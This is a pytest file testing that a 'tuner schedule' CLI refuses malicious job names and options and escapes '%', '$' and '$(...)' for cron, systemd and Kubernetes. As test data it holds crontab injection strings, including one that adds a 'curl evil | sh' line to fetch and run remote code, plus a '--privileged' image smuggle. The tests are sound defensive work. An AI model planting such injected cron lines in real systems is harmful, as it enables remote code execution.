"""``tuner schedule`` writes only the job it was asked for (issue: a --name with a newline
added a crontab line of the caller's choosing; ``%`` in a path became a newline in cron and
a specifier in systemd; a config with a typo was scheduled to fail on every run)."""

from __future__ import annotations

import os
import pathlib
import shlex
import stat

import pytest
import yaml
from click.testing import CliRunner

from tests.jobs.test_schedule import VALID_CONFIG
from tuner.cli import cli
from tuner.jobs.schedule import crontab_line, make_spec, systemd_units

INJECTED = "x\n* * * * * curl evil | sh #"


def _invoke(*args: str, env: dict[str, str] | None = None) -> tuple[int, str]:
    res = CliRunner(env=env).invoke(cli, list(args))
    assert res.exception is None or isinstance(res.exception, SystemExit), repr(res.exception)
    assert "Traceback" not in res.output
    return res.exit_code, res.output


def _config(folder: pathlib.Path, name: str = "retune.yaml") -> pathlib.Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text(VALID_CONFIG)
    return path


@pytest.mark.parametrize("name", [INJECTED, "has space", "a;b", "Upper", "x" * 53, "-lead",
                                  "trail-", "", "ünï", "a/b", "a%b", "a.b"])
@pytest.mark.parametrize("target", ["cron", "systemd", "kubernetes"])
def test_bad_name_is_refused_before_anything_is_written(tmp_path: pathlib.Path, name: str,
                                                        target: str) -> None:
    cfg = _config(tmp_path)
    out = tmp_path / "out"
    code, output = _invoke("schedule", "--every", "6h", "--config", str(cfg), "--target",
                           target, "--name", name, "-o", str(out))
    assert code == 2, output
    assert output.startswith("Error: --name ") and "DNS-1123" in output
    assert not out.exists()


def test_injected_name_never_reaches_the_crontab(tmp_path: pathlib.Path) -> None:
    bindir = tmp_path / "bin"
    bindir.mkdir()
    tab = tmp_path / "tab"
    tab.write_text("5 * * * * backup\n")
    fake = bindir / "crontab"
    fake.write_text(f'#!/bin/sh\nif [ "$1" = "-l" ]; then cat {tab}; else cat > {tab}; fi\n')
    fake.chmod(fake.stat().st_mode | stat.S_IEXEC)
    cfg = _config(tmp_path)
    code, _ = _invoke("schedule", "--every", "6h", "--config", str(cfg), "--target", "cron",
                      "--install", "--name", INJECTED,
                      env={"PATH": f"{bindir}:{os.environ['PATH']}"})
    assert code == 2
    assert tab.read_text() == "5 * * * * backup\n"


@pytest.mark.parametrize("name", ["tuner-retune", "a", "prod-7", "x" * 52])
def test_good_names_pass(name: str) -> None:
    from tuner.jobs.schedule import check_job_name

    assert check_job_name(name) == name


def _cron_command(line: str) -> str:
    """What cron hands the shell (crontab(5)): ``\\%`` becomes ``%``, a bare ``%`` ends the
    command (what follows is stdin)."""
    fields = line.split(" ", 5)[5]
    out, i = [], 0
    while i < len(fields):
        if fields.startswith("\\%", i):
            out.append("%")
            i += 2
        elif fields[i] == "%":
            break
        else:
            out.append(fields[i])
            i += 1
    return "".join(out)


def test_percent_in_the_config_path_survives_cron(tmp_path: pathlib.Path) -> None:
    cfg = _config(tmp_path / "100% sure $HOME 'q'")
    spec = make_spec(every="6h", cron=None, config=cfg, tuner="/opt/tuner")
    line = crontab_line(spec)
    assert "\n" not in line
    words = shlex.split(_cron_command(line).split(" >> ")[0])
    assert words == ["/opt/tuner", "retune", "--config", str(cfg)]


def _systemd_split(text: str) -> list[str]:
    """systemd.exec(5)'s reading of ExecStart: %% -> %, $$ -> $, then C-style quoting."""
    assert "%" not in text.replace("%%", ""), "an unescaped specifier"
    assert "$" not in text.replace("$$", ""), "an unescaped variable"
    return shlex.split(text.replace("%%", "%").replace("$$", "$"), posix=True)


def test_specifiers_and_variables_are_escaped_for_systemd(tmp_path: pathlib.Path) -> None:
    cfg = _config(tmp_path / 'odd %n $USER "dq" dir')
    spec = make_spec(every="6h", cron=None, config=cfg, tuner="/opt/tuner")
    service = systemd_units(spec)["tuner-retune.service"]
    exec_start = next(ln for ln in service.splitlines() if ln.startswith("ExecStart="))
    assert _systemd_split(exec_start[len("ExecStart="):]) == [
        "/opt/tuner", "retune", "--config", str(cfg)]
    workdir = next(ln for ln in service.splitlines() if ln.startswith("WorkingDirectory="))
    assert workdir == "WorkingDirectory=" + str(cfg.parent).replace("%", "%%")
    from tuner.jobs.schedule import systemd_word

    assert systemd_word("plain/path") == "plain/path"


def test_kubernetes_command_escapes_variable_references(tmp_path: pathlib.Path) -> None:
    cfg = _config(tmp_path, "$(HOME).yaml")
    code, output = _invoke("schedule", "--every", "6h", "--config", str(cfg), "--target",
                           "kubernetes", "-o", str(tmp_path / "k8s"))
    assert code == 0, output
    doc = yaml.safe_load((tmp_path / "k8s" / "tuner-retune.cronjob.yaml").read_text())
    script = doc["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0][
        "command"][2]
    assert "'/var/lib/tuner/$$(HOME).yaml'" in script


@pytest.mark.parametrize("option,value,says", [
    ("--image", "reg/tuner:1 --privileged", "--image"),
    ("--image", "reg/tuner:1\nx", "--image"),
    ("--state-claim", "State Claim", "--state-claim"),
    ("--tuner-bin", "/opt/tuner\n* * * * * evil", "--tuner-bin"),
])
def test_other_fields_are_checked(tmp_path: pathlib.Path, option: str, value: str,
                                  says: str) -> None:
    cfg = _config(tmp_path)
    code, output = _invoke("schedule", "--every", "6h", "--config", str(cfg), "--target",
                           "kubernetes", option, value, "-o", str(tmp_path / "k8s"))
    assert code == 2, output
    assert output.startswith(f"Error: {says} ")
    assert not (tmp_path / "k8s").exists()


@pytest.mark.parametrize("text,says", [
    ("profile: prod\n", "missing key"),
    (VALID_CONFIG + "trails: 5\n", "unknown key(s) trails"),
    ("{not yaml", "invalid YAML"),
])
def test_a_config_the_job_cannot_load_is_refused(tmp_path: pathlib.Path, text: str,
                                                 says: str) -> None:
    cfg = tmp_path / "typo.yaml"
    cfg.write_text(text)
    for target in ("cron", "systemd", "kubernetes"):
        code, output = _invoke("schedule", "--every", "6h", "--config", str(cfg), "--target",
                               target, "-o", str(tmp_path / "out"))
        assert code == 2, output
        assert str(cfg) in output and says in output, output
        assert not (tmp_path / "out").exists()
